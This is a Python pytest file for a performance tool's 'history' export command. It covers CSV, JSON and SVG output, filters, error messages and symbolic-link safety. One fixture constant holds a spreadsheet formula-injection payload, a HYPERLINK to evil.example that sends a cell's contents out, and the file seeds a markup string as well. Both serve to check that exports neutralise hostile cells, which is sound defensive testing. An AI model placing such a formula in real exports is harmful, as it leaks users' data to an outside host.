"""``perfbot history``: the store it opens, its errors (one sentence, exit 2), its bound,
and hostile cells (spreadsheet formulas, markup) in each format; the output file is never
written through a symbolic link."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from perfbot.cli import EXIT_OK, EXIT_USAGE, main
from perfbot.cli import history as history_cli
from perfbot.store import SQLiteStore
from perfbot.store.export import MAX_EXPORT_ROWS
from tests.store.test_measurements import record

DAY = 86_400.0
NOV_1 = 1_793_491_200.0  # 2026-11-01T00:00:00Z
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def database(tmp_path: Path) -> Path:
    path = tmp_path / "perfbot.db"

    async def seed() -> None:
        store = SQLiteStore(str(path))
        await store.setup()
        await store.record_measurements(
            [
                record(day, side="push", sha=f"{day:x}" * 40, metric="tcp_rx.mbps", at=at)
                for day, at in ((1, NOV_1 + 3600), (2, NOV_1 + DAY + 3600), (3, NOV_1 + 2 * DAY))
            ]
            + [
                record(9, side="push", sha="9" * 40, metric=HOSTILE, at=NOV_1 + 60),
                record(9, side="push", sha="9" * 40, metric="<b>&x</b>]]>", at=NOV_1 + 60),
                record(
                    9,
                    side="push",
                    sha="9" * 40,
                    metric="inf",
                    samples=(float("inf"), 1.0),
                    at=NOV_1 + 60,
                ),
            ]
        )
        await store.close()

    asyncio.run(seed())
    return path


def history(
    database: Path | None, *args: str, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, str]:
    given = [] if database is None else ["--database", str(database)]
    code = main(["history", "--repo", "acme/r500", *given, *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_csv_neutralises_formulas_and_keeps_numbers(
    database: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = history(database, capsys=capsys)
    assert code == EXIT_OK
    table = list(csv.DictReader(io.StringIO(out)))
    assert list(table[0]) == list(history_cli.COLUMNS)
    metrics = [row["metric"] for row in table]
    assert "'" + HOSTILE in metrics
    assert HOSTILE not in metrics
    assert "<b>&x</b>]]>" in metrics  # not a formula: kept as it is
    tcp = [row for row in table if row["metric"] == "tcp_rx.mbps"]
    assert [(row["run_id"], row["median"], row["n"], row["samples"]) for row in tcp] == [
        (str(day), "940.875", "2", "941.25 940.5") for day in (1, 2, 3)
    ]
    assert tcp[0]["recorded_at"] == "2026-11-01T01:00:00Z"


def test_json_and_svg_escape_hostile_names(
    database: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = history(database, "--format", "json", capsys=capsys)
    assert code == EXIT_OK
    document = json.loads(out)
    assert HOSTILE in [row["metric"] for row in document["rows"]]  # JSON's own escaping
    (infinite,) = [row for row in document["rows"] if row["metric"] == "inf"]
    assert infinite["samples"] == [None, 1.0]  # JSON has no infinity
    code, out, _ = history(database, "--format", "svg", "--metric", "<b>*", capsys=capsys)
    assert code == EXIT_OK
    root = ElementTree.fromstring(out.encode())
    texts = [element.text or "" for element in root.iter()]
    assert any("<b>&x</b>]]>" in text for text in texts)  # text again once parsed
    assert not any(element.tag.endswith("script") for element in root.iter())


@pytest.mark.parametrize(
    ("args", "runs"),
    [
        (("--since", "2026-11-02"), [2, 3]),
        (("--until", "2026-11-01"), [9, 9, 9, 1]),  # a date includes its whole day
        (("--until", "2026-11-01T00:30:00Z"), [9, 9, 9]),
        (("--since", "2026-11-01T02:00:00+01:00", "--until", "2026-11-02"), [1, 2]),
        (("--metric", "tcp_*", "--limit", "2"), [2, 3]),
        (("--platform", "other"), []),
    ],
)
def test_filters_and_bound(
    database: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...], runs: list[int]
) -> None:
    code, out, err = history(database, "--format", "json", *args, capsys=capsys)
    assert code == EXIT_OK
    document = json.loads(out)
    assert [row["run_id"] for row in document["rows"]] == runs
    assert document["truncated"] == ("--limit" in args)
    assert ("only the newest 2 rows" in err) == ("--limit" in args)
    assert ("match the filters" in err) == (not runs)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--repo", "acme/widget"), "perfbot: no measurements of acme/widget are stored\n"),
        (("--repo", "not a repo"), "perfbot: --repo 'not a repo' is not OWNER/NAME\n"),
        (("--since", "2026-11-03", "--until", "2026-11-02"), "--since must be before --until"),
        (("--format", "svg"), "an SVG draws one metric of one platform, and 4 match"),
    ],
)
def test_errors_are_one_sentence_and_exit_2(
    database: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...], message: str
) -> None:
    code, out, err = history(database, *args, capsys=capsys)
    assert (code, out) == (EXIT_USAGE, "")
    assert message in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("option", "value"), [("--since", "2026-13-01"), ("--until", "yesterday"), ("--limit", "0")]
)
def test_bad_arguments_exit_2(
    database: Path, capsys: pytest.CaptureFixture[str], option: str, value: str
) -> None:
    with pytest.raises(SystemExit) as exited:
        history(database, option, value, capsys=capsys)
    assert exited.value.code == EXIT_USAGE
    assert f"argument {option}: {value!r} is not" in capsys.readouterr().err


def test_the_database_comes_from_the_environment_and_is_never_created(
    database: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)  # no .env here
    monkeypatch.setenv("PERFBOT_DATABASE_URL", f"sqlite:///{database}")
    code, out, _ = history(None, capsys=capsys)
    assert code == EXIT_OK
    assert out.count("tcp_rx.mbps") == 3
    missing = tmp_path / "none.db"
    monkeypatch.setenv("PERFBOT_DATABASE_URL", str(missing))
    code, _, err = history(None, capsys=capsys)
    assert code == EXIT_USAGE
    assert f"no database at {missing}" in err
    assert not missing.exists()


def test_the_output_is_never_written_through_a_link(
    database: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep me\n")
    link = tmp_path / "history.csv"
    link.symlink_to(victim)
    code, _, err = history(database, "--output", str(link), capsys=capsys)
    assert code == EXIT_USAGE
    assert "is a symbolic link; it is not written through" in err
    assert victim.read_text() == "keep me\n"
    written = tmp_path / "real.csv"
    assert history(database, "--output", str(written), capsys=capsys)[0] == EXIT_OK
    assert written.read_text().startswith("recorded_at,repository,")


def test_the_cli_bound_is_the_store_bound() -> None:
    assert history_cli.MAX_EXPORT_ROWS == MAX_EXPORT_ROWS


def test_every_option_is_documented() -> None:
    page = Path(__file__).resolve().parent.parent / "docs" / "cli" / "history.md"
    text = page.read_text(encoding="utf-8")
    section = text.split("## Exporting the history (`perfbot history`)", 1)[1].split("\n## ")[0]
    parser = argparse.ArgumentParser()
    history_cli.add_arguments(parser)
    options = {o for action in parser._actions for o in action.option_strings} - {"-h", "--help"}
    assert options
    for option in sorted(options):
        assert f"| `{option}" in section, f"{option} is not in docs/cli/history.md"
